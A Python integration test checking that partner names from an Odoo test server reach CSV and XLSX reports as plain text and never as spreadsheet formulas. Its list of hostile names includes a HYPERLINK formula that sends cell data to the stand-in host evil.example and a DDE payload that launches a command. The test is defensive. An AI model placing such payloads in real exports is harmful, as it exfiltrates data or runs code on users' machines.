"""Formula injection, end to end: hostile partner names typed in Odoo reach CSV and XLSX reports as plain text.

The report writers are tested on their own in tests/integration/test_reports.py; here the names travel the
whole way: Odoo (the local server) → ``apply --odoo`` → the database → ``report_from_run`` → the files.
"""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal, InvalidOperation
from itertools import cycle

import openpyxl
import pytest

from carteira_gui.adapters.db.engine import open_database
from carteira_gui.adapters.db.uow import SqlUnitOfWork
from carteira_gui.adapters.odoo.demo import build_demo
from carteira_gui.adapters.odoo.server import OdooTestServer
from carteira_gui.adapters.reports import report_from_run, write_report
from carteira_gui.adapters.reports.formatting import FORMULA_TRIGGERS, NEUTRAL_MARK
from carteira_gui.services.history import find_run, run_alerts

from .helpers import cli, odoo_env, write_json, write_settings

PASSWORD = "senha-exportacao"
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Clique aqui")',
    "=cmd|' /C calc'!A0",
    "+55 (11) 4000-0000 Ltda",
    "-2+3 Comércio",
    "@SUM(A1:A9)",
    "\t=1+1 Atacado",
    "＝1+1 Ｌｔｄａ",
]


def is_number(text: str) -> bool:
    try:
        Decimal(text.replace(",", "."))
    except InvalidOperation:
        return False
    return True


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_hostile_partner_names_from_odoo_never_become_formulas(fmt, sqlite_url, tmp_path, monkeypatch):
    state, dataset = build_demo(300, 7)
    code, _out, err = cli("--db", sqlite_url, "seed", write_json(tmp_path / "ontem.json", state))
    assert code == 0, err
    with OdooTestServer(dataset, password=PASSWORD) as srv:
        # The carteira names the commercial entity of an order's partner (the company, not its contact person).
        partners = [p for p in srv.records("res.partner").values() if _commercial(p) == p["id"]]
        for partner, name in zip(partners, cycle(HOSTILE_NAMES), strict=False):
            partner["name"] = name
        for key, value in odoo_env(srv.url, PASSWORD, write_settings(tmp_path / "s.toml")).items():
            monkeypatch.setenv(key, value)
        code, _out, err = cli("--db", sqlite_url, "apply", "--odoo", "--yes", "--allow-mass-removal")
    assert code == 0, err
    engine = open_database(sqlite_url)
    try:
        report = report_of(SqlUnitOfWork(engine), None)
    finally:
        engine.dispose()
    expected = {name.strip() for name in HOSTILE_NAMES[: len(partners)]}
    assert expected <= {line.cliente for line in report.lines}
    path = write_report(report, fmt, tmp_path / f"mudancas.{fmt}")

    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";"))
        cells = [cell for row in rows for cell in row]
        for cell in cells:
            if cell.startswith(FORMULA_TRIGGERS):
                assert is_number(cell), cell  # only numbers may start with "-" or "+"
        for name in expected:
            # Behind the invisible mark: read as text, shown as the name itself (no apostrophe).
            assert NEUTRAL_MARK + name in cells, name
    else:
        workbook = openpyxl.load_workbook(path)
        texts = set()
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        texts.add(cell.value)
        assert expected <= texts
        with zipfile.ZipFile(path) as archive:
            for member in archive.namelist():
                if member.startswith("xl/worksheets/"):
                    assert b"<f>" not in archive.read(member)
                    assert b"<f " not in archive.read(member)


def _commercial(partner):
    value = partner.get("commercial_partner_id")
    return value[0] if isinstance(value, list | tuple) and value else value or partner["id"]


def report_of(uow, run_id):
    """The report of a stored run, read as the report use case reads it."""
    with uow.reading() as session:
        run = find_run(session, run_id)
        return report_from_run(run, session.run_changes(run.id), run_alerts(session, run.id))
